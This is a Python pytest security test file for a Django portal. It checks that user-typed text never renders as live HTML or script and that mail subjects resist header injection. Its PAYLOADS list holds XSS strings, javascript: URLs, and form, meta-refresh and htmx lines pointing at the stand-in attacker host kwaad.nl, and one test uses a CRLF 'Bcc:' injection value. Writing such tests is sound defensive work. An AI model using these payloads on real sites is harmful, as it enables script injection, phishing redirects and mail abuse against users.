"""What people type is shown as text: no payload comes alive on a page or in a mail."""

from html.parser import HTMLParser

import pytest
from django.db import connection, models

from common.models import OutgoingMail
from tests.security import worlds
from tests.security.measure import knock
from tests.security.routes import OWN_ROUTES

pytestmark = pytest.mark.django_db
MARK = "9317"
PAYLOADS = [
    "<script>alert(9317)</script>",
    "</textarea><script>alert(9317)</script>",
    "</title><script>alert(9317)</script>",
    '"><img src=x onerror=alert(9317)>',
    "'><svg onload=alert(9317)>",
    '" autofocus onfocus="alert(9317)',
    "' onmouseover='alert(9317)",
    "javascript:alert(9317)",
    "<a href=javascript:alert(9317)>x</a>",
    "<iframe srcdoc='<script>alert(9317)</script>'>",
    "{{ 9317 }}{% debug %}",
    "<form action=//kwaad.nl/9317><button>x",
    "<base href=//kwaad.nl/9317/>",
    "<meta http-equiv=refresh content='0;url=//kwaad.nl/9317'>",
    '<div hx-get="//kwaad.nl/9317" hx-trigger="load">',
    "<style>@import '//kwaad.nl/9317'</style>",
]
# Every text that people can type, now or through the register.
FIELDS = [
    ("accounts_user", ("first_name", "last_name")),
    ("organisations_organisation", ("name", "speaks_for")),
    ("organisations_location", ("name",)),
    ("partnerships_partnership", ("name", "vision")),
    ("regions_region", ("name",)),
    ("regions_participant", ("declined_reason",)),
    ("regions_functionplan", ("arrangement", "target")),
    ("regions_regionpartnership", ("reason",)),
    ("regions_round", ("name",)),
    ("regions_criterion", ("title", "text", "source")),
    ("regions_assessment", ("summary",)),
    ("regions_score", ("justification",)),
    ("regions_decision", ("reasons", "points")),
    ("regions_regiontransition", ("reason",)),
    ("reports_report", ("title",)),
]
ALIVE = ("src", "href", "action", "formaction", "srcdoc", "content", "data", "hx-get", "hx-post")


class LiveParts(HTMLParser):
    """The parts of a page that would run or load something with the mark in it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.inside = ""

    def handle_starttag(self, tag, attrs):
        self.inside = tag if tag in ("script", "style") else ""
        for name, value in attrs:
            handler = name.startswith("on")
            loads = name in ALIVE and MARK in (value or "")
            runs = (value or "").strip().lower().startswith("javascript:")
            if handler or runs or (loads and tag != "a"):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_data(self, data):
        if self.inside and MARK in data:
            self.found.append(f"<{self.inside}> with {data!r}")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_comes_alive_on_a_page(payload, world, clients):
    _type_everywhere(payload)
    shown = 0
    for role in ("anonymous", "editor", "member", "assessor", "decider", "administrator"):
        for route in OWN_ROUTES:
            if route.methods.get("GET", {}).get(role) == "ok" and route.name != "reports:download":
                body = knock(clients[role], "GET", _path(route, world)).body.decode()
                parts = LiveParts()
                parts.feed(body)
                assert parts.found == [], f"{route} as {role}"
                shown += body.count(MARK)
    assert shown > 100  # the payload was there, as text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_mail_is_plain_text_with_one_subject_line(payload, world, clients):
    _type_everywhere(payload + "\r\nBcc: kwaad@voorbeeld.nl")
    form = worlds.payload("regions:ask-everyone", "draft", world.a, world)
    OutgoingMail.objects.all().delete()
    clients["editor"].post(worlds.url("regions:ask-everyone", "draft", world.a), form)

    for mail in OutgoingMail.objects.all():
        assert "\n" not in mail.subject
        assert "\r" not in mail.subject


def test_the_list_of_fields_is_complete():
    """A new text field of a model that forms or people fill must be tried here too."""
    from django.apps import apps  # noqa: PLC0415 -- only this test reads the models

    tried = {(table, column) for table, columns in FIELDS for column in columns}
    tables = {table for table, _columns in FIELDS}
    free = {
        (model._meta.db_table, field.column)
        for model in apps.get_models()
        if model._meta.db_table in tables
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and not isinstance(field, models.SlugField | models.EmailField)
    }
    assert sorted(free - tried - FIXED) == []


# Texts that no person types: codes, hashes, and what the portal writes itself.
FIXED = {
    ("accounts_user", "password"),
    ("organisations_organisation", "board_number"),
    ("organisations_organisation", "brin"),
    ("organisations_location", "code"),
    ("regions_criterion", "code"),
    ("regions_regiontransition", "verb"),
    ("reports_report", "subject"),
    ("reports_report", "step"),
    ("reports_report", "file"),
    ("reports_report", "sha256"),
    ("reports_report", "error"),
}


def _type_everywhere(payload: str) -> None:
    """Put it in every text of every row, past forms and triggers, as a leak elsewhere might."""
    with connection.cursor() as cursor:
        cursor.execute("SET LOCAL session_replication_role = replica")
        for table, columns in FIELDS:
            for column in columns:
                cursor.execute(
                    f"UPDATE {table} SET {column} = left(%s || id, %s)",  # noqa: S608 -- our own names
                    [payload, 80],
                )
        cursor.execute(
            "UPDATE regions_submission SET snapshot = replace(snapshot::text, 'Zo doen wij het.', "
            "%s)::jsonb",
            [payload.replace("\\", "").replace('"', '\\"').replace("\r\n", " ")],
        )
        cursor.execute("SET LOCAL session_replication_role = DEFAULT")


def _path(route, world) -> str:
    return worlds.url(route.name, route.stage, world.a)
